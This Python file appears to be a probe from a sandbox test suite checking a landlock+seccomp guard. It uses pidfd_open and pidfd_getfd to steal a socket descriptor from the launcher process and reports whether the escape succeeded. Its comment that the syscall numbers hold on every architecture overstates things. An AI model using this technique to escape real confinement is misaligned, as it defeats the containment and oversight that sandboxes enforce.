"""Takes a socket from the launcher instead of opening one.

guard: landlock+seccomp
"""

import ctypes
import os


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    launcher = libc.syscall(434, os.getppid(), 0)  # pidfd_open; the numbers hold on every architecture
    if launcher < 0:
        return "held"
    for fd in range(64):
        taken = libc.syscall(438, launcher, fd, 0)  # pidfd_getfd
        if taken >= 0 and "socket" in os.readlink(f"/proc/self/fd/{taken}"):
            return f"escaped: the launcher's descriptor {fd}"
    return "it was refused each of them"
